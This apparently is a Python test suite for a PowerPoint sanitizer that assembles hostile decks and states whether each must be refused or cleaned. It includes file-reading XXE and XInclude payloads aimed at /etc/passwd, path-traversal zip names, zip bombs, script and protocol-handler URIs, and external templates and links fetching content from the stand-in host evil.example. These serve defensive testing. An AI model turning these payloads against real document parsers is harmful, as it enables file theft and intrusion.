"""The decks that must not pass: each is refused, or comes out without what made it hostile."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pptx import Presentation

from tests.collect import decks
from tests.collect.surgery import (
    MS,
    RELS,
    TYPES,
    added,
    bent,
    drawn,
    entries,
    entry,
    packed,
    related,
    swapped,
    typed,
    unpacked,
)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
PPT = "ppt/presentation.xml"
SLIDE = "ppt/slides/slide2.xml"
SECRET = b"TopSecretNeedle"


@dataclass(frozen=True, kw_only=True)
class Case:
    """A hostile deck, and what must become of it."""

    make: Callable[[], bytes]
    refused: str = ""
    removed: tuple[str, ...] = ()
    gone: tuple[bytes, ...] = ()


HOSTILE: dict[str, Case] = {}


def _case(name: str, *, refused: str = "", removed: tuple[str, ...] | str = (), gone: tuple[bytes, ...] = ()):
    removed = (removed,) if isinstance(removed, str) else removed

    def keep(make: Callable[[], bytes]):
        assert name not in HOSTILE
        HOSTILE[name] = Case(make=make, refused=refused, removed=removed, gone=gone)
        return make

    return keep


# --- active content --------------------------------------------------------------------------------------------------

VBA = "application/vnd.ms-office.vbaProject"
VBA_KIND = f"{MS}/2006/relationships/vbaProject"


@_case("macro", removed=("macro", "macro-file"), gone=(SECRET,))
def _():
    deck = decks.parts()
    swapped(deck, TYPES, MAIN, "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    added(deck, "ppt/vbaProject.bin", OLE + SECRET, VBA, source=PPT, key="rIdV", kind=VBA_KIND)
    return packed(deck)


@_case("macro-renamed-picture", removed=("picture", "embedded-file"), gone=(SECRET,))
def _():
    return decks.pictured(OLE + SECRET)


@_case("macro-orphan", removed="macro", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/other.bin", OLE + SECRET, VBA)
    return packed(deck)


@_case("macro-declared-as-slide", refused="xml-encoding")
def _():
    deck = decks.parts()
    deck[SLIDE] = OLE
    return packed(deck)


@_case("show-that-starts-itself", removed="macro-file")
def _():
    deck = decks.parts()
    swapped(deck, TYPES, MAIN, MAIN.replace("presentation.main", "slideshow.main"))
    return packed(deck)


@_case("add-in", refused="add-in")
def _():
    deck = decks.parts()
    swapped(deck, TYPES, MAIN, "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml")
    return packed(deck)


@_case("activex", removed="activex", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/activeX/activeX1.xml", SECRET, "application/vnd.ms-office.activeX+xml", source=SLIDE, key="rIdX",
          kind="control")  # fmt: skip
    swapped(deck, SLIDE, "</p:cSld>", '<p:controls><p:control spid="7" name="TopSecretNeedle" r:id="rIdX"/></p:controls></p:cSld>')
    return packed(deck)


@_case("add-in-pane", removed="web-add-in", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/webextensions/taskpanes.xml", SECRET, "application/vnd.ms-office.webextensiontaskpanes+xml",
          source="", key="rIdW", kind=f"{MS}/2011/relationships/webextensiontaskpanes")  # fmt: skip
    return packed(deck)


@_case("ribbon", removed="ribbon", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "customUI/customUI14.xml", SECRET, "application/xml", source="", key="rIdU",
          kind=f"{MS}/2007/relationships/ui/extensibility")  # fmt: skip
    return packed(deck)


@_case("ole-package", removed="ole", gone=(b"not a real document",))
def _():
    return decks.object_deck()


@_case("ole-with-hostile-preview", removed=("ole", "picture"), gone=(b"This program cannot",))
def _():
    deck = unpacked(decks.object_deck())
    (preview,) = (name for name in deck if name.startswith("ppt/media/"))
    deck[preview] = b"MZ This program cannot be run"
    return packed(deck)


@_case("ole-of-2007-with-drawing", removed="ole", gone=(b"CONTENTS",))
def _():
    deck = unpacked(decks.object_deck())
    slide = "ppt/slides/slide1.xml"
    start, end = deck[slide].index(b"<p:pic>"), deck[slide].index(b"</p:pic>") + 8
    deck[slide] = (deck[slide][:start] + deck[slide][end:]).replace(b"<p:oleObj ", b'<p:oleObj spid="_x0000_s1026" ')
    added(deck, "ppt/drawings/vmlDrawing1.vml", (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        b'<v:shape id="_x0000_s1026"><v:imagedata o:relid="rId1" o:title=""/></v:shape></xml>'
    ), "application/vnd.openxmlformats-officedocument.vmlDrawing", source=slide, key="rIdV", kind="vmlDrawing")  # fmt: skip
    deck["ppt/media/preview.png"] = decks.png(colour=(9, 90, 9))
    related(deck, "ppt/drawings/vmlDrawing1.vml", "rId1", "image", "../media/preview.png")
    return packed(deck)


@_case("ole-linked", removed=("ole", "external"), gone=(b"evil.example",))
def _():
    deck = unpacked(decks.object_deck())
    name = "ppt/slides/_rels/slide1.xml.rels"
    key = deck[name].split(b'relationships/package"')[0].rpartition(b'Id="')[2].split(b'"')[0].decode()
    start = deck[name].index(b"<Relationship ", deck[name].index(key.encode()) - 40)
    end = deck[name].index(b"/>", start) + 2
    deck[name] = deck[name][:start] + deck[name][end:]
    related(deck, "ppt/slides/slide1.xml", key, "oleObject", "file://evil.example/x.docx", external=True)
    return packed(deck)


@_case("ole-in-both-versions", removed="ole", gone=(b"not a real document", b"oleObj"))
def _():
    deck = unpacked(decks.object_deck())
    slide = "ppt/slides/slide1.xml"
    start, end = deck[slide].index(b"<p:oleObj"), deck[slide].index(b"</p:oleObj>") + 11
    held = deck[slide][start:end]
    mc = b'<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
    both = mc + b'<mc:Choice xmlns:p14="%s" Requires="p14">' % f"{MS}/powerpoint/2010/main".encode() + held
    both += b"</mc:Choice><mc:Fallback>" + held + b"</mc:Fallback></mc:AlternateContent>"
    deck[slide] = deck[slide][:start] + both + deck[slide][end:]
    return packed(deck)


@_case("embedded-document-with-macros", removed="embedded-file", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/embeddings/x.docm", b"PK" + SECRET, "application/vnd.ms-word.document.macroEnabled.12", source=SLIDE,
          key="rIdE", kind="package")  # fmt: skip
    return packed(deck)


@_case("animation-starts-object", removed="verb")
def _():
    deck = decks.parts()
    step = (
        '<p:par><p:cTn id="2"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="3" dur="1"/><p:tgtEl>'
        '<p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par>'
    )
    decks.timed(deck, 2, step)
    return packed(deck)


PROGRAMS = {"shape": "click", "hover": "hover", "text": "click-on-text", "text-hover": "hover-over-text"}
for _where, _name in PROGRAMS.items():
    _case(f"program-on-{_name}", removed=("program", "link"), gone=(b"ppaction://program", b"calc.exe"))(
        lambda where=_where: decks.acting("ppaction://program", where=where, target="file:///C:/Windows/calc.exe")
    )
    _case(f"macro-on-{_name}", removed="program", gone=(b"ppaction://macro",))(
        lambda where=_where: decks.acting("ppaction://macro?name=Run", where=where)
    )
for _action in (
    "ppaction://hlinkfile", "ppaction://ole?verb=0", "ppaction://hlinkpres?slideindex=1", "PPACTION://PROGRAM",
    "ppaction://hlinkshowjump?jump=nextslide&amp;x=1", "ppaction://customshow?id=77", "ppaction://unknown", "javascript:x",
):  # fmt: skip
    _case(f"action-{_action}", removed=("program",) if "ole" in _action or "PROGRAM" in _action else ("link",))(
        lambda action=_action: decks.acting(action, where="text")
    )
_case("action-show-verb-with-file", removed="link", gone=(b"x.exe",))(
    lambda: decks.acting("ppaction://hlinkshowjump?jump=nextslide", target="file://h/x.exe")
)

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)", "&#106;avascript:alert(1)", "vbscript:x",
    "file:///C:/Windows/System32/calc.exe", "file://evil.example/share", "\\\\evil.example\\share\\x", "//evil.example/x",
    "ms-word:ofe|u|https://evil.example/x.docm", "ms-msdt:/id", "search-ms:query=x", "data:text/html,x", "smb://evil.example",
    "http://bank.example@evil.example/", "http://evil.example\\@bank.example/", "http:\\\\evil.example\\x", "http:evil",
    "https:///evil.example", "mailto:a@b.org?bcc=spy@evil.example", "mailto:a@b.org?BCC=spy@evil.example",
    "mailto:a@b.org?%62cc=spy@evil.example", "mailto:a@b.org?attach=C:/x", "mailto:a@b.org,spy@evil.example",
    "mailto:a@b.org%0d%0aBcc:spy@evil.example", "http://a.example/%0d%0aX", "http://a.example/\u202egpj.exe", "ftp://x.example",
    "%6aavascript:alert(1)", "tel:+32;x=javascript:y", "slide3.xml", "http://a b.example/", "mhtml:http://x.example!x",
)  # fmt: skip
for _number, _address in enumerate(ADDRESSES):
    _case(f"address-{_number}-{_address[:24]!a}", removed="link", gone=(b"evil.example", b"avascript:"))(
        lambda address=_address, where=tuple(PROGRAMS)[_number % 4]: decks.linked(address, where=where)
    )

# --- what loads by itself --------------------------------------------------------------------------------------------


@_case("picture-outside", removed=("external", "picture"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "http://evil.example/x.png", external=True)
    swapped(deck, "ppt/slides/slide3.xml", "r:embed=", 'r:link="rIdE" x=')
    return packed(deck)


@_case("picture-outside-beside-own", removed="external", gone=(b"evil.example", b"r:link"))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "\\\\evil.example\\x.png", external=True)
    swapped(deck, "ppt/slides/slide3.xml", "r:embed=", 'r:link="rIdE" r:embed=')
    return packed(deck)


@_case("picture-outside-as-own", removed=("external", "picture"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/slides/slide3.xml", "rIdE", "image", "https://evil.example/x.png", external=True)
    deck["ppt/slides/slide3.xml"] = deck["ppt/slides/slide3.xml"].replace(b'r:embed="rId2"', b'r:embed="rIdE"')
    return packed(deck)


@_case("film-outside", removed=("external",), gone=(b"evil.example",))
def _():
    return decks.filmed(b"", external="http://evil.example/x.mp4")


@_case("sound-outside-hover", removed=("external",), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, SLIDE, "rIdS", "audio", "file://evil.example/x.wav", external=True)
    drawn(deck, 2, decks.shape(90, "Sound", about='<a:hlinkClick r:id="" action="ppaction://noaction"><a:snd r:embed="rIdS" name="x"/></a:hlinkClick>'))
    return packed(deck)


@_case("template-outside", removed="external", gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/slideMasters/slideMaster1.xml", "rIdT", "attachedTemplate", "http://evil.example/x.potm", external=True)
    related(deck, "", "rIdT", "attachedTemplate", "http://evil.example/x.potm", external=True)
    return packed(deck)


@_case("layout-outside", refused="broken-deck")
def _():
    deck = decks.parts()
    name = "ppt/slides/_rels/slide2.xml.rels"
    deck[name] = deck[name].replace(b'Target="../slideLayouts/slideLayout2.xml"', b'Target="http://evil.example/x" TargetMode="External"')
    return packed(deck)


@_case("slide-update", removed="external", gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, SLIDE, "rIdU", "slideUpdateUrl", "http://evil.example/slides", external=True)
    return packed(deck)


@_case("workbook-outside", removed="external", gone=(b"evil.example", b"externalData"))
def _():
    deck = unpacked(decks.charted())
    (name,) = (name for name in deck if name.startswith("ppt/charts/_rels/"))
    start = deck[name].index(b'Target="')
    end = deck[name].index(b'"', start + 8) + 1
    deck[name] = deck[name][:start] + b'Target="file://evil.example/b.xlsx" TargetMode="External"' + deck[name][end:]
    return packed(deck)


@_case("workbook-behind-chart", removed="workbook", gone=(b"externalData",))
def _():
    return decks.charted()


@_case("chart-names-a-folder", removed="path", gone=(b"ada.north",))
def _():
    deck = unpacked(decks.charted())
    (name,) = (name for name in deck if name.startswith("ppt/charts/chart"))
    swapped(deck, name, "Sheet1!$A$2:$A$4", "'C:\\Users\\ada.north\\[b.xlsx]Sheet1'!$A$2:$A$4")
    return packed(deck)


@_case("publishing-outside", removed=("publish-settings", "link"), gone=(b"evil.example",))
def _():
    deck = decks.parts()
    related(deck, "ppt/presProps.xml", "rIdH", "hyperlink", "file://evil.example/web.htm", external=True)
    swapped(deck, "ppt/presProps.xml", "<p:extLst>", '<p:htmlPubPr r:id="rIdH"><p:sldAll/></p:htmlPubPr><p:extLst>')
    return packed(deck)

# --- ways past a scanner ---------------------------------------------------------------------------------------------


@_case("relationships-in-utf-16", removed="link", gone=(b"evil.example",))
def _():
    deck = unpacked(decks.linked("file://evil.example/x"))
    name = "ppt/slides/_rels/slide2.xml.rels"
    text = deck[name].decode().partition("?>")[2] or deck[name].decode()
    deck[name] = f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")
    return packed(deck)


@_case("relationships-with-prefix", removed="link", gone=(b"evil.example",))
def _():
    deck = unpacked(decks.linked("file://evil.example/x"))
    name = "ppt/slides/_rels/slide2.xml.rels"
    deck[name] = deck[name].replace(b"<Relationship", b"<z:Relationship").replace(b"</Relationship", b"</z:Relationship")
    deck[name] = deck[name].replace(b"xmlns=", b"xmlns:z=")
    return packed(deck)


@_case("slide-with-other-prefixes", removed="program", gone=(b"ppaction://macro",))
def _():
    deck = unpacked(decks.acting("ppaction://macro?name=x", where="text"))
    text = deck[SLIDE].replace(b"<p:", b"<a0:").replace(b"</p:", b"</a0:").replace(b"xmlns:p=", b"xmlns:a0=")
    deck[SLIDE] = text.replace(b" r:", b" p:").replace(b"xmlns:r=", b"xmlns:p=")
    return packed(deck)


@_case("link-in-both-versions", removed="program", gone=(b"ppaction://macro",))
def _():
    deck = decks.parts()
    bad = decks.shape(90, "x", about='<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>')
    drawn(deck, 2, (
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice xmlns:q="{MS}/powerpoint/2010/main" Requires="q">{bad}</mc:Choice>'
        f"<mc:Fallback>{bad}</mc:Fallback></mc:AlternateContent>"
    ))  # fmt: skip
    return packed(deck)


@_case("unknown-namespace-with-content", removed="unknown-markup", gone=(b"ppaction://macro", b"evil:wrap"))
def _():
    deck = decks.parts()
    bad = decks.shape(90, "x", about='<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>')
    swapped(deck, SLIDE, "<p:sld ", (
        '<p:sld xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:evil="urn:evil" '
        'mc:Ignorable="evil" mc:ProcessContent="evil:wrap" '
    ))  # fmt: skip
    drawn(deck, 2, f"<evil:wrap>{bad}</evil:wrap>")
    return packed(deck)


@_case("xinclude", removed="unknown-markup", gone=(b"XInclude", b"passwd"))
def _():
    deck = decks.parts()
    drawn(deck, 2, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    return packed(deck)


@_case("processing-instruction", removed="markup-notes", gone=(b"xml-stylesheet", SECRET))
def _():
    deck = decks.parts()
    swapped(deck, SLIDE, "<p:cSld>", f'<?xml-stylesheet href="http://evil.example/x.xsl"?><!-- {SECRET.decode()} --><p:cSld>')
    return packed(deck)


@_case("stray-text", gone=(SECRET,))
def _():
    deck = decks.parts()
    swapped(deck, SLIDE, "<p:cSld>", f"<p:cSld>{SECRET.decode()}")
    swapped(deck, SLIDE, "</p:cSld>", f"</p:cSld>{SECRET.decode()}")
    return packed(deck)


@_case("base-of-relationships", removed="link", gone=(b"evil.example",))
def _():
    deck = unpacked(decks.linked("x/../y"))
    name = "ppt/slides/_rels/slide2.xml.rels"
    deck[name] = deck[name].replace(b"<Relationships ", b'<Relationships xml:base="http://evil.example/" ')
    return packed(deck)


@_case("target-mode-in-other-letters", refused="broken-deck")
def _():
    deck = unpacked(decks.linked("file://evil.example/x"))
    name = "ppt/slides/_rels/slide2.xml.rels"
    deck[name] = deck[name].replace(b'"External"', b'"external"')
    return packed(deck)


@_case("id-twice", refused="broken-deck")
def _():
    deck = unpacked(decks.linked("https://good.example/"))
    related(deck, SLIDE, "rIdLink", "hyperlink", "file://evil.example/x", external=True)
    return packed(deck)


@_case("type-said-twice", refused="zip-twice")
def _():
    deck = decks.parts()
    typed(deck, "ppt/slides/SLIDE2.xml", "application/vnd.ms-office.vbaProject")
    return packed(deck)


@_case("type-by-name-against-ending", removed=("picture", "macro"), gone=(SECRET,))
def _():
    deck = unpacked(decks.pictured(decks.png()))
    deck[TYPES] = deck[TYPES].replace(b'PartName="/ppt/media/image1.png" ContentType="image/png"',
                                      b'PartName="/ppt/media/image1.png" ContentType="application/vnd.ms-office.vbaProject"')  # fmt: skip
    deck["ppt/media/image1.png"] += SECRET
    return packed(deck)


@_case("target-climbs-out", removed=("picture", ), gone=(b"..%2F",))
def _():
    deck = decks.parts()
    name = "ppt/slides/_rels/slide3.xml.rels"
    deck[name] = deck[name].replace(b"../media/image1", b"..%2F..%2F..%2F..%2Fetc/image1")
    assert b"%2F" in deck[name]
    return packed(deck)


@_case("picture-that-is-a-slide", removed="picture")
def _():
    deck = decks.parts()
    name = "ppt/slides/_rels/slide3.xml.rels"
    deck[name] = deck[name].replace(b"../media/image1.png", b"slide1.xml")
    return packed(deck)


@_case("long-attribute", refused="xml-size")
def _():
    deck = decks.parts()
    drawn(deck, 2, decks.shape(90, "n" * 70_000))
    return packed(deck)


# --- pictures and media ----------------------------------------------------------------------------------------------


@_case("program-as-jpeg", removed=("picture", "embedded-file"), gone=(b"This program cannot",))
def _():
    return decks.pictured(b"MZ\x90\0This program cannot be run in DOS mode", "jpg", "image/jpeg")


@_case("zip-as-picture", removed=("picture", "embedded-file"), gone=(SECRET,))
def _():
    return decks.pictured(b"PK\3\4" + SECRET)


@_case("page-as-picture", removed="picture", gone=(b"<script",))
def _():
    return decks.pictured(b"<html><script>alert(1)</script></html>")


@_case("svg-as-picture", removed="picture", gone=(b"<script",))
def _():
    return decks.pictured(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "svg", "image/svg+xml")


@_case("svg-behind-picture", removed="svg", gone=(b"<script", b"svgBlip"))
def _():
    deck = decks.parts()
    added(deck, "ppt/media/x.svg", b"<svg><script>alert(1)</script></svg>", "image/svg+xml", source="ppt/slides/slide3.xml",
          key="rIdS", kind="image")  # fmt: skip
    start = deck["ppt/slides/slide3.xml"].index(b"<a:blip ")
    end = deck["ppt/slides/slide3.xml"].index(b"/>", start)
    ext = (
        '><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
        f'xmlns:asvg="{MS}/drawing/2016/SVG/main" r:embed="rIdS"/></a:ext></a:extLst></a:blip>'
    ).encode()
    deck["ppt/slides/slide3.xml"] = deck["ppt/slides/slide3.xml"][:end] + ext + deck["ppt/slides/slide3.xml"][end + 2 :]
    return packed(deck)


@_case("unedited-original-behind-picture", removed="picture-layers", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/media/hdphoto1.wdp", SECRET, "image/vnd.ms-photo", source="ppt/slides/slide3.xml", key="rIdS",
          kind=f"{MS}/2007/relationships/hdphoto")  # fmt: skip
    start = deck["ppt/slides/slide3.xml"].index(b"<a:blip ")
    end = deck["ppt/slides/slide3.xml"].index(b"/>", start)
    ext = (
        '><a:extLst><a:ext uri="{BEBA8EAE-BF5A-486C-A8C5-ECC9F3942E4B}"><a14:imgProps '
        f'xmlns:a14="{MS}/drawing/2010/main"><a14:imgLayer r:embed="rIdS"/></a14:imgProps></a:ext></a:extLst></a:blip>'
    ).encode()
    deck["ppt/slides/slide3.xml"] = deck["ppt/slides/slide3.xml"][:end] + ext + deck["ppt/slides/slide3.xml"][end + 2 :]
    return packed(deck)


@_case("data-behind-the-end-of-png", removed="picture-facts", gone=(SECRET,))
def _():
    return decks.pictured(decks.png() + SECRET)


@_case("words-inside-png", removed="picture-facts", gone=(SECRET,))
def _():
    return decks.pictured(decks.png(Author=SECRET.decode()))


@_case("place-inside-jpeg", removed="picture-facts", gone=(b"Secret Camera", b"Exif"))
def _():
    return decks.pictured(decks.jpeg(place=True), "jpg", "image/jpeg")


@_case("zip-behind-jpeg", removed="picture-facts", gone=(SECRET,))
def _():
    return decks.pictured(decks.jpeg() + b"PK\3\4" + SECRET, "jpg", "image/jpeg")


@_case("picture-of-50000-by-50000", removed="picture-large")
def _():
    import struct

    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return decks.pictured(b"\x89PNG\r\n\x1a\n" + chunk + decks.png()[33:])


@_case("broken-picture", removed="picture")
def _():
    return decks.pictured(decks.png()[:80])


@_case("drawing-that-calls-code", removed=(), gone=(SECRET,))
def _():
    return decks.pictured(wmf_with_escape(), "wmf", "image/x-wmf")


@_case("drawing-with-a-comment", removed=(), gone=(SECRET,))
def _():
    return decks.pictured(emf_with_comment(), "emf", "image/x-emf")


@_case("drawing-out-of-bounds", removed="picture")
def _():
    return decks.pictured(emf_with_comment(size=40_000), "emf", "image/x-emf")


@_case("embedded-font", removed="embedded-font", gone=(SECRET,))
def _():
    deck = decks.parts()
    added(deck, "ppt/fonts/font1.fntdata", SECRET, "application/x-fontdata", source=PPT, key="rIdF", kind="font")
    swapped(deck, PPT, "<p:defaultTextStyle>", (
        '<p:embeddedFontLst><p:embeddedFont><p:font typeface="Evil"/><p:regular r:id="rIdF"/></p:embeddedFont>'
        "</p:embeddedFontLst><p:defaultTextStyle>"
    ))  # fmt: skip
    return packed(deck)


@_case("program-as-film", removed="media", gone=(b"This program",))
def _():
    return decks.filmed(b"MZ This program")


@_case("place-inside-film", removed="media-facts", gone=(b"+52.52",))
def _():
    return decks.filmed(decks.film(place=True))


@_case("zip-behind-sound", removed="media-facts", gone=(SECRET,))
def _():
    return decks.filmed(decks.sound() + b"LIST\x10\0\0\0" + SECRET + b" ", "wav", "audio/wav", tag="audioFile", kind="audio")


def wmf_with_escape() -> bytes:
    """Return a drawing of a rectangle that first calls its printer driver (META_ESCAPE)."""
    import struct

    escape = struct.pack("<IHHH", 5 + 8, 0x0626, 9, 16) + SECRET + b"\0"
    body = struct.pack("<IHHHHH", 7, 0x041B, 50, 50, 1, 1) + escape + struct.pack("<IH", 3, 0)
    return struct.pack("<HHHIHIH", 1, 9, 0x300, 9 + len(body) // 2, 0, 13, 0) + body


def emf_with_comment(size: int = 0) -> bytes:
    """Return a drawing of a rectangle with a comment before it; `size` is a lie about its length."""
    import struct

    comment = struct.pack("<III", 70, size or 12 + 16, 15) + SECRET + b"\0"
    body = comment + struct.pack("<IIiiii", 43, 24, 1, 1, 50, 50) + struct.pack("<IIIII", 14, 20, 0, 16, 20)
    head = struct.pack("<IIiiiiiiii4sIIIHHIIIiiii", 1, 88, 0, 0, 60, 60, 0, 0, 1000, 1000, b" EMF", 0x10000, 88 + len(body), 4,
                       1, 0, 0, 0, 0, 1000, 1000, 300, 300)  # fmt: skip
    return head + body


# --- the container ---------------------------------------------------------------------------------------------------


def _zip(change: Callable[[list], None] = lambda each: None, **how) -> bytes:
    each = entries(decks.parts())
    change(each)
    return bent(each, **how)


_case("zip-bomb", refused="zip-bomb")(lambda: _zip(lambda each: each.append(entry(b"ppt/x.xml", bytes(320 * 1024 * 1024)))))
_case("zip-bomb-slide", refused="zip-bomb")(lambda: packed(decks.parts() | {SLIDE: b"<a>" + b" " * (17 * 1024 * 1024) + b"</a>"}))
_case("size-that-lies", refused="zip-bomb")(
    lambda: _zip(lambda each: each.__setitem__(_at(each, SLIDE), entry(SLIDE.encode(), b" " * 10**7, size=100)))
)
_case("too-many-parts", refused="zip-bomb")(lambda: _zip(lambda each: each.extend(entry(b"x%d" % n, b"") for n in range(5_001))))
_case("overlapping-parts", refused="zip-odd")(lambda: _zip(twice=True))
_case("unknown-packing", refused="zip-odd")(lambda: _zip(lambda each: each.append(entry(b"x.xml", b"x", method=99))))
_case("encrypted-part", refused="encrypted")(lambda: _zip(lambda each: each.append(entry(b"x.xml", b"x", flags=1))))
_case("link-to-a-file", refused="zip-odd")(lambda: _zip(lambda each: each.append(entry(b"x.xml", b"/etc/passwd", mode=0o120777))))
_case("two-names", refused="zip-odd")(lambda: _zip(lambda each: each.append(entry(b"x.xml", b"x", local=b"y.xml"))))
_case("joined-files", refused="zip-odd")(lambda: decks.plain() + decks.charted())
_case("comment-behind", refused="zip-odd")(lambda: _zip(comment=SECRET))
_case("data-before", refused="pdf")(lambda: _zip(prefix=b"%PDF-1.7\n"))
_case("data-before-2", refused="zip-odd")(lambda: _zip(prefix=b"PK\3\4" + bytes(60)))
_case("data-behind", refused="zip-odd")(lambda: decks.plain() + SECRET)
_case("damaged", refused="zip-broken")(
    lambda: _zip(lambda each: each.__setitem__(_at(each, SLIDE), entry(SLIDE.encode(), decks.parts()[SLIDE], crc=7)))
)
_case("truncated", refused="truncated")(lambda: decks.plain()[:-4000])
NAMES = (
    b"../evil.xml", b"ppt/../../evil.xml", b"/etc/evil.xml", b"C:/evil.xml", b"ppt\\evil.xml", b"ppt/ev\0il.xml", b"ppt//x.xml",
    "ppt/\u202egpj.xml".encode(), b"ppt/%2e%2e/x.xml", b"ppt/x%2Fy.xml", b"ppt/con:.xml", b"ppt/a.", b"ppt/a ", b"n" * 300, b"ppt/./x",
    b"ppt/\xff\xfe.xml", b"ppt/x?.xml",
)  # fmt: skip
for _number, _bad in enumerate(NAMES):
    _case(f"name-{_number}", refused="zip-name")(
        lambda bad=_bad: _zip(lambda each: each.append(entry(bad, b"x", flags=0x800 if any(c > 127 for c in bad) else 0)))
    )
_case("part-twice", refused="zip-twice")(lambda: _zip(lambda each: each.append(entry(SLIDE.encode(), b"<x/>"))))
_case("part-twice-in-capitals", refused="zip-twice")(lambda: _zip(lambda each: each.append(entry(SLIDE.upper().encode(), b"<x/>"))))
_case("part-twice-by-percent", refused="zip-twice")(
    lambda: _zip(lambda each: each.append(entry(SLIDE.replace("slide2", "%73lide2").encode(), b"<x/>")))
)


def _at(each: list, name: str) -> int:
    return next(number for number, one in enumerate(each) if one[0] == name.encode())


# --- XML -------------------------------------------------------------------------------------------------------------


def _slide(text: str | bytes, part: str = SLIDE) -> bytes:
    return packed(decks.parts() | {part: text if isinstance(text, bytes) else text.encode()})


def _declared(doctype: str, *, coding: str = "utf-8") -> bytes:
    slide = decks.parts()[SLIDE].decode().partition("?>")[2]
    return f'<?xml version="1.0" encoding="{coding}"?>{doctype}{slide}'.encode(coding)


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 or chr(0)[:0]};" * 10}">' for n in range(1, 9)) + "]>"
_case("entity-from-a-file", refused="doctype")(lambda: _slide(_declared('<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>')))
_case("billion-laughs", refused="doctype")(lambda: _slide(_declared(LAUGHS)))
_case("doctype-in-utf-16", refused="doctype")(lambda: _slide(_declared('<!DOCTYPE s SYSTEM "http://evil.example/x">', coding="utf-16")))
_case("doctype-in-relationships", refused="doctype")(
    lambda: _slide(b'<!DOCTYPE s><Relationships xmlns="x"/>', "ppt/slides/_rels/slide2.xml.rels")
)
_case("doctype-in-content-types", refused="doctype")(lambda: _slide(b"<!DOCTYPE s><Types/>", TYPES))
_case("doctype-in-properties", refused="doctype")(lambda: _slide(b"<!DOCTYPE s><x/>", "docProps/core.xml"))
_case("doctype-in-hidden-slide", refused="doctype")(lambda: _slide(_declared("<!DOCTYPE s>").replace(b"<p:sld ", b'<p:sld show="0" ')))
_case("odd-encoding", refused="xml-encoding")(lambda: _slide(b'<?xml version="1.0" encoding="UTF-7"?><x/>'))
_case("odd-encoding-ebcdic", refused="xml-broken")(lambda: _slide('<?xml version="1.0" encoding="cp500"?><x/>'.encode("cp500")))
_case("utf-16-without-mark", refused="xml-encoding")(lambda: _slide("<x/>".encode("utf-16-le")))
_case("100000-levels", refused="xml-depth")(lambda: _slide("<a>" * 50_000 + "</a>" * 50_000))
_case("251-levels-of-known-elements", refused="xml-depth")(
    lambda: _slide(decks.parts()[SLIDE].replace(b"</p:spTree>", b"<p:grpSp>" * 249 + b"</p:grpSp>" * 249 + b"</p:spTree>"))
)
_case("too-many-elements", refused="xml-size")(lambda: _slide("<a>" + "<b/>" * 300_001 + "</a>"))
_case("too-many-attributes", refused="xml-size")(lambda: _slide("<a>" + '<b c="" d="" e="" f=""/>' * 63_000 + "</a>"))
_case("broken-slide", refused="xml-broken")(lambda: _slide("<p:sld"))
_case("wrong-root", refused="broken-deck")(lambda: _slide("<x/>"))

# --- no deck ---------------------------------------------------------------------------------------------------------


def _office(kind: str) -> bytes:
    deck = decks.parts()
    swapped(deck, TYPES, MAIN, f"application/vnd.openxmlformats-officedocument.{kind}.main+xml")
    return packed(deck)


_case("empty", refused="empty")(lambda: b"")
_case("too-large", refused="too-large")(lambda: b"PK\3\4" + bytes(64 * 1024 * 1024))
_case("old-powerpoint", refused="old-ppt")(lambda: OLE + "PowerPoint Document".encode("utf-16-le") + bytes(99))
_case("password", refused="encrypted")(lambda: OLE + "EncryptedPackage".encode("utf-16-le") + bytes(99))
_case("pdf", refused="pdf")(lambda: b"%PDF-1.7\n%\xe2\xe3")
_case("page", refused="html")(lambda: b"\xef\xbb\xbf <!DOCTYPE html><html></html>")
_case("rtf", refused="rtf")(lambda: b"{\\rtf1 x}")
_case("program", refused="program-file")(lambda: b"MZ\x90\0")
_case("shortcut", refused="program-file")(lambda: b"L\0\0\0\x01\x14\x02\0")
_case("text", refused="not-a-deck")(lambda: b"Good morning")
_case("word", refused="word")(lambda: _office("wordprocessingml.document"))
_case("excel", refused="excel")(lambda: _office("spreadsheetml.sheet"))
